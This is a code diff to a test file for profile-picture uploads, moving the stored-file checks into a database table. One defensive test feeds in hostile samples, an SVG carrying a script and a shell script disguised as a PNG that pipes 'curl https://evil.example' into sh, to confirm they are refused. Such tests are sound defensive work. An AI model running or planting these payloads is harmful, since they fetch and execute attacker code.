@@ -13,7 +13,6 @@ import { tooManyPixelsMessage, unsupportedPictureMessage } from '../services/pic
 import { pictureTooLargeMessage } from '../routes.ts';
 
 const dataDir = mkdtempSync(path.join(tmpdir(), 'tradelist-profile-'));
-const pictureDir = path.join(dataDir, 'profile-pictures');
 let t: TestApp;
 let fixture: CatalogFixture;
 setUpApiTest({ env: { DATA_DIR: dataDir } }, async (setup) => {
@@ -41,7 +40,11 @@ function upload(client: TestClient, id: number, bytes: Buffer, options?: Paramet
   return client.request('POST', `/api/users/${id}/update-profile/`, multipart(bytes, options));
 }
 
-const storedFiles = () => readdirSync(pictureDir).filter((name) => !name.startsWith('.'));
+/** The names of the stored pictures (in the upload store, decision 0035). */
+async function storedFiles(): Promise<string[]> {
+  const rows = await t.database.db.selectFrom('uploaded_files').select('key').where('key', 'like', 'profile-pictures/%').orderBy('key').execute();
+  return rows.map((row) => row.key.slice('profile-pictures/'.length));
+}
 const fileOf = (url: string) => url.split('/').pop()!;
 
 /** A photo-like JPEG carrying EXIF with a camera, a copyright and a GPS position. */
@@ -116,7 +119,7 @@ describe('profile picture uploads (product §11.13)', () => {
 
   test('SVG, a script named .png and a PDF are refused by their content with a field error; nothing is stored', async () => {
     const { client, id } = await member('picture-bad');
-    const before = storedFiles().length;
+    const before = (await storedFiles()).length;
     const refused = [
       { bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>'), filename: 'me.svg', type: 'image/svg+xml' },
       { bytes: Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'), filename: 'me.png', type: 'image/png' },
@@ -132,7 +135,7 @@ describe('profile picture uploads (product §11.13)', () => {
     const broken = await upload(client, id, Buffer.concat([(await pngWithExif()).subarray(0, 40), Buffer.alloc(200, 7)]));
     expect(broken.statusCode).toBe(400);
     expect(Object.keys(broken.json().fields)).toEqual(['profile_image']);
-    expect(storedFiles().length).toBe(before);
+    expect((await storedFiles()).length).toBe(before);
     expect((await client.get(`/api/users/${id}/profile-picture/`)).json()).toEqual({ profile_picture_url: null });
   });
 
@@ -148,7 +151,7 @@ describe('profile picture uploads (product §11.13)', () => {
 
   test('more than 5 MB is refused with 413, whether the length is declared or found while reading', async () => {
     const { client, id } = await member('picture-big');
-    const before = storedFiles().length;
+    const before = (await storedFiles()).length;
     const sixMegabytes = Buffer.concat([(await pngWithExif()).subarray(0, 33), Buffer.alloc(6 * 1024 * 1024, 1)]);
     const declared = await upload(client, id, sixMegabytes);
     expect(declared.statusCode).toBe(413);
@@ -156,7 +159,7 @@ describe('profile picture uploads (product §11.13)', () => {
     const justOver = await upload(client, id, Buffer.alloc(PROFILE_PICTURE_MAX_BYTES + 1, 1));
     expect(justOver.statusCode).toBe(413);
     expect(justOver.json()).toMatchObject({ code: 'PAYLOAD_TOO_LARGE', error: pictureTooLargeMessage });
-    expect(storedFiles().length).toBe(before);
+    expect((await storedFiles()).length).toBe(before);
   });
 
   test('a JSON body or a form without profile_image is refused', async () => {
@@ -181,17 +184,17 @@ describe('profile picture uploads (product §11.13)', () => {
   test('a new upload replaces the old file; removing deletes the file and the old URL stops answering', async () => {
     const { client, id } = await member('picture-replace');
     const first = (await upload(client, id, await pngWithExif())).json().profile_picture_url as string;
-    expect(storedFiles()).toContain(fileOf(first));
+    expect(await storedFiles()).toContain(fileOf(first));
     const second = (await upload(client, id, await jpegWithExif())).json().profile_picture_url as string;
     expect(second).not.toBe(first);
-    expect(storedFiles()).toContain(fileOf(second));
-    expect(storedFiles()).not.toContain(fileOf(first));
+    expect(await storedFiles()).toContain(fileOf(second));
+    expect(await storedFiles()).not.toContain(fileOf(first));
     expect((await client.get(first)).statusCode).toBe(404);
 
     const removed = await client.request('DELETE', `/api/users/${id}/delete-profile-picture/`);
     expect(removed.statusCode).toBe(200);
     expect(removed.json()).toEqual({ profile_picture_url: null });
-    expect(storedFiles()).not.toContain(fileOf(second));
+    expect(await storedFiles()).not.toContain(fileOf(second));
     expect((await client.get(second)).statusCode).toBe(404);
     expect((await client.get(`/api/users/${id}/profile-picture/`)).json()).toEqual({ profile_picture_url: null });
     // Removing again is harmless.
@@ -202,7 +205,7 @@ describe('profile picture uploads (product §11.13)', () => {
     const owner = await member('picture-owner');
     const intruder = await member('picture-intruder');
     const url = (await upload(owner.client, owner.id, await pngWithExif())).json().profile_picture_url as string;
-    const files = storedFiles();
+    const files = await storedFiles();
     for (const targetId of [owner.id, ID_MAX]) {
       const read = await intruder.client.get(`/api/users/${targetId}/profile-picture/`);
       const replace = await upload(intruder.client, targetId, await jpegWithExif());
@@ -213,8 +216,14 @@ describe('profile picture uploads (product §11.13)', () => {
         expect(response.body).not.toContain(url);
       }
     }
-    expect(storedFiles()).toEqual(files);
+    expect(await storedFiles()).toEqual(files);
     expect((await owner.client.get(`/api/users/${owner.id}/profile-picture/`)).json()).toEqual({ profile_picture_url: url });
+  });
+
+  test('nothing is written under DATA_DIR: pictures live in the database', async () => {
+    const { client, id } = await member('picture-no-disk');
+    expect((await upload(client, id, await pngWithExif())).statusCode).toBe(200);
+    expect(readdirSync(dataDir)).toEqual([]);
   });
 
   test('the picture route serves only stored names: anything else is a 404', async () => {
